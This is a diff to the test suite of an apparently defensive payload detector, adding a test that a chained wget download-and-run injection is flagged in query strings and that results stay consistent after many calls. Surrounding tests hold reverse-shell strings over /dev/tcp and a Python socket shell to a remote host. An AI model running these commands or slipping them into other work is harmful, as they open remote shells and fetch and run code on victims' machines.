@@ -222,6 +222,15 @@ describe('inspectText finds payloads', () => {
     expect(sign).toMatchObject({ decodedSnippet: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', steps: ['percent', 'base64'] });
   });
 
+  it('says the same again of a text that it remembers, and of each place its own', () => {
+    const text = 'id=1;wget http://10.0.0.1/a -O /tmp/a;/tmp/a';
+    const [query, body] = [inspectText(text, 'query'), inspectText(text, 'body')];
+    expect(query.map(({ technique }) => technique)).toContain('chained download');
+    expect(body.map(({ technique }) => technique)).not.toContain('chained download');
+    for (let i = 0; i < 5000; i++) inspectText(`ordinary text ${i}`, 'query');
+    expect([inspectText(text, 'query'), inspectText(text, 'query'), inspectText(text, 'body')]).toEqual([query, query, body]);
+  });
+
   it('says the same of a text as sent and as Zeek decodes it', () => {
     const decoded =
       'category=&&export RHOST="35.217.6.162";export RPORT=3000;python3 -c \'import socket,os;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))))\'';
